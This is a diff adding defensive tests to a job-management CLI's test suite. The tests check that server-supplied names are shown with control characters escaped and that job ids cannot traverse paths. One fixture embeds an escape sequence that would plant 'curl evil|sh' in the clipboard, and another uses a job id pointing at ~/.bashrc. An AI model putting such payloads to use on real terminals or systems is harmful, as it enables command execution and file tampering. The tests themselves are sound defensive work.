@@ -399,6 +399,28 @@ def test_logs_without_follow_prints_what_is_stored(api, capsys):
     assert capsys.readouterr().out.splitlines() == ["demo line 2", "demo line 3"]
 
 
+# --- what reaches a terminal -----------------------------------------------------------------------
+HOSTILE = "x\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2Jy"  # sets the clipboard to `curl evil|sh`, clears the screen
+SHOWN = "x\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[2Jy"
+
+
+def test_text_from_the_server_reaches_a_terminal_with_its_control_characters_written_out(api, capsys, monkeypatch):
+    monkeypatch.setattr(render, "isatty", lambda stream: True)  # stdout and stderr are a terminal
+    job = api.add_job("training-esc0000001", name=HOSTILE)
+    job.stored = 2
+    assert run("list") == 0 and run("logs", "training-esc0000001") == 0
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out
+    assert SHOWN in out.splitlines()[1] and out.splitlines()[-1] == f"{SHOWN} line 2"
+
+
+def test_colours_pass_and_a_pipe_gets_the_bytes_as_stored(api, capsys, monkeypatch):
+    assert render.visible("\x1b[1;31mred\x1b[0m\tand\r\x9b2J") == "\x1b[1;31mred\x1b[0m\tand\\r\\x9b2J"
+    api.add_job("training-esc0000001", name=HOSTILE).stored = 1
+    assert run("logs", "training-esc0000001") == 0  # not a terminal: `trainyard logs ID > out.log`
+    assert capsys.readouterr().out == f"{HOSTILE} line 1\n"
+
+
 # --- reading ---------------------------------------------------------------------------------------
 def test_show_prints_a_summary_or_json(api, capsys):
     api.add_job("training-done0001").status = "COMPLETED"
@@ -423,6 +445,12 @@ def test_a_job_may_be_named_by_the_start_of_its_id(api, capsys):
         capsys.readouterr().err
     assert run("show", "zzz") == 1  # starts no id: the server's 404 says so
     assert "not found" in capsys.readouterr().err.lower()
+
+
+def test_a_start_of_an_id_resolves_only_to_an_id_of_the_platforms_form(api):
+    # A hostile server's list names a job whose id would climb out of ./ID/, where download writes.
+    api.add_job("training-5o2/../../.bashrc")
+    assert client.Client(api.url, TOKEN).resolve_job_id("5o2") == "5o2"  # the server's 404 then says so
 
 
 def test_show_prints_an_elastic_jobs_allocation_timeline(api, capsys):
